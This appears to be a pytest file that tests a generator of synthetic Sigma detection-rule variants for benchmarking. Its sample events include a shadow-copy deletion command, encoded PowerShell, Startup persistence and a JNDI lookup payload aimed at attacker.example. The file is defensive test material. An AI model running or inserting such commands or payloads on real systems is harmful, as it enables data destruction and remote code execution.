"""More rules than there are: new words, the same structure, and nothing that happens meets them."""

from random import Random

import pytest
import yaml

from sentinel.detect.reference import evaluate
from sentinel.detect.sigma.load import load
from sentinel.documents import SourceText
from tests.bench.detect import invented, material
from tests.bench.detect.variants import Variants

SEED = 7
RULES = list(yaml.safe_load_all(invented.RULES.read_text("utf-8")))
BY_TITLE = {rule["title"]: rule for rule in RULES}

# An event that meets each rule.
EVENTS = {
    "Shadow Copies Deleted": {
        "Image": "C:\\Windows\\System32\\vssadmin.exe",
        "CommandLine": "vssadmin Delete Shadows /all",
    },
    "Encoded PowerShell": {
        "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "CommandLine": "powershell -NoProfile -EncodedCommand SQBFAFgA",
        "ParentImage": "C:\\Windows\\explorer.exe",
    },
    "Service Made From A Temporary Folder": {
        "Provider_Name": "Service Control Manager",
        "EventID": 7045,
        "ImagePath": "C:\\Users\\canbo\\AppData\\Local\\Temp\\x.exe",
    },
    "Naming Lookup In A Request": {"": "GET /?q=${jndi:ldap://attacker.example/a}"},
    "Script Dropped Into Startup": {
        "Image": "C:\\tep\\x.exe",
        "TargetFilename": "C:\\Users\\a\\Start Menu\\Programs\\Startup\\bao-cao.vbs",
    },
}


def _condition(rule):
    ruleset = load([SourceText("rules/variant.yml", material.written(rule))])
    assert ruleset.refused == ()
    return ruleset.rules[0].condition


def test_the_same_seed_makes_the_same_variants():
    """A measurement can be repeated by anybody."""
    assert list(Variants(RULES, SEED).make(50)) == list(Variants(RULES, SEED).make(50))


def test_another_seed_makes_others():
    """With ids and words of their own."""
    one, other = list(Variants(RULES, SEED).make(50)), list(Variants(RULES, SEED + 1).make(50))

    assert {rule["id"] for rule in one} & {rule["id"] for rule in other} == set()
    assert [rule["detection"] for rule in one] != [rule["detection"] for rule in other]


def test_variants_of_one_rule_have_ids_and_words_of_their_own():
    """Thirty thousand rules are thirty thousand."""
    made = list(Variants(RULES, SEED).make(10 * len(RULES)))

    assert len({rule["id"] for rule in made}) == len(made)
    # A word of four letters leaves few others: now and then two variants are the same.
    assert len({str(rule["detection"]) for rule in made}) > 0.95 * len(made)


def test_every_variant_loads():
    """Exchanged letters leave a rule a rule."""
    text = "---\n".join(map(material.written, Variants(RULES, SEED).make(5 * len(RULES))))

    ruleset = load([SourceText("rules/variants.yml", text)])

    assert ((), 5 * len(RULES)) == (ruleset.refused, len(ruleset.rules))


@pytest.mark.parametrize("title", EVENTS)
def test_a_variant_meets_the_event_of_its_rule_with_the_same_words_exchanged(title):
    """It means what its rule means, of other words."""
    rule, event = BY_TITLE[title], EVENTS[title]
    assert evaluate(_condition(rule), event) is not None

    made, words = Variants(RULES, SEED).of(rule, 1)

    assert evaluate(_condition(made), words.of_event(event)) is not None


@pytest.mark.parametrize("title", EVENTS)
def test_a_variant_does_not_meet_the_event_of_its_rule(title):
    """More rules, the same detections."""
    made, _ = Variants(RULES, SEED).of(BY_TITLE[title], 1)

    assert evaluate(_condition(made), EVENTS[title]) is None


def test_words_that_many_rules_share_stay():
    """A new rule of somebody's asks for powershell.exe, too."""
    many = [{**BY_TITLE["Encoded PowerShell"], "id": str(number)} for number in range(20)]
    few = {
        **BY_TITLE["Encoded PowerShell"],
        "detection": {
            "selection": {"Image|endswith": "\\powershell.exe", "CommandLine|contains": "seldom"},
            "condition": "selection",
        },
    }

    made, _ = Variants([*many, few], SEED).of(few, 1)

    selection = made["detection"]["selection"]
    assert selection["Image|endswith"] == "\\powershell.exe"
    assert selection["CommandLine|contains"] != "seldom"


def test_each_alternative_gets_new_words():
    """Where one selection of several is enough, none of them is left as it was."""
    rule = {
        "id": "x",
        "title": "x",
        "logsource": {"product": "windows"},
        "detection": {
            "selection_a": {"Image|endswith": "\\alphaprogram.exe"},
            "selection_b": {"CommandLine|contains": "betaargument"},
            "condition": "1 of selection_*",
        },
    }

    made, _ = Variants([rule], SEED).of(rule, 1)

    assert made["detection"]["selection_a"]["Image|endswith"] != "\\alphaprogram.exe"
    assert made["detection"]["selection_b"]["CommandLine|contains"] != "betaargument"


def test_a_rule_that_asks_for_numbers_alone_has_no_variants():
    """Nothing in it could be made new: its variants would meet what it meets."""
    rule = {
        "id": "x",
        "title": "x",
        "logsource": {"product": "windows"},
        "detection": {"selection": {"EventID": 4625}, "condition": "selection"},
    }

    assert Variants([rule], SEED).templates == []
    with pytest.raises(ValueError, match="names no word"):
        Variants([rule], SEED).of(rule, 1)


def test_no_variant_meets_an_invented_event():
    """The letters that a seed exchanges do not come out as words that are said."""
    variants = Variants(RULES, SEED)
    conditions = [_condition(rule) for rule in variants.make(60)]
    events = Random(SEED).sample(list(invented.windows(400, SEED)), 100)

    assert not any(evaluate(each, event) for each in conditions for event in events)
